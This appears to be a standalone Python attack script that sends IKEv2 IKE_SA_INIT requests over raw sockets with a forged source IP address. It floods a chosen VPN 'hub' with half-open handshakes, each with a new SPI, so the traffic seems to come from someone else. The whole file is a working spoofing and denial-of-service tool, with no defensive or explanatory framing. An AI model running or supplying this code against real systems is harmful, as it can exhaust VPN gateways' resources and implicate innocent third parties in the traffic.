"""Begins IKE in somebody else's name and never goes on: `python3 - SOURCE HUB COUNT` on a node that sees neither."""

import os
import socket
import struct
import sys

# A valid public value of group 19 (RFC 5903, section 3.1): the generator itself.
POINT = bytes.fromhex(
    "6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
    "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5"
)
SA, KE, NONCE, NONE = 33, 34, 40, 0
# AES-GCM-16 with 256 bits, PRF SHA2-384, group 19 (RFC 7296, section 3.3; IANA's registry of IKEv2).
TRANSFORMS = (
    struct.pack("!BBHBBHHH", 3, 0, 12, 1, 0, 20, 0x800E, 256)
    + struct.pack("!BBHBBH", 3, 0, 8, 2, 0, 6)
    + struct.pack("!BBHBBH", 0, 0, 8, 4, 0, 19)
)


def payload(following: int, body: bytes) -> bytes:
    """A payload with its generic header."""
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def init() -> bytes:
    """An IKE_SA_INIT request (RFC 7296, section 1.2), each with another SPI."""
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(TRANSFORMS), 1, 1, 0, 3) + TRANSFORMS
    body = payload(KE, proposal) + payload(NONCE, struct.pack("!HH", 19, 0) + POINT) + payload(NONE, os.urandom(32))
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", SA, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def main(source: str, hub: str, count: int) -> None:
    """Send them, from the source's port 500."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        for _ in range(count):
            said = init()
            udp = struct.pack("!HHHH", 500, 500, 8 + len(said), 0) + said
            ends = socket.inet_aton(source) + socket.inet_aton(hub)
            header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0) + ends
            wire.sendto(header + udp, (hub, 0))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
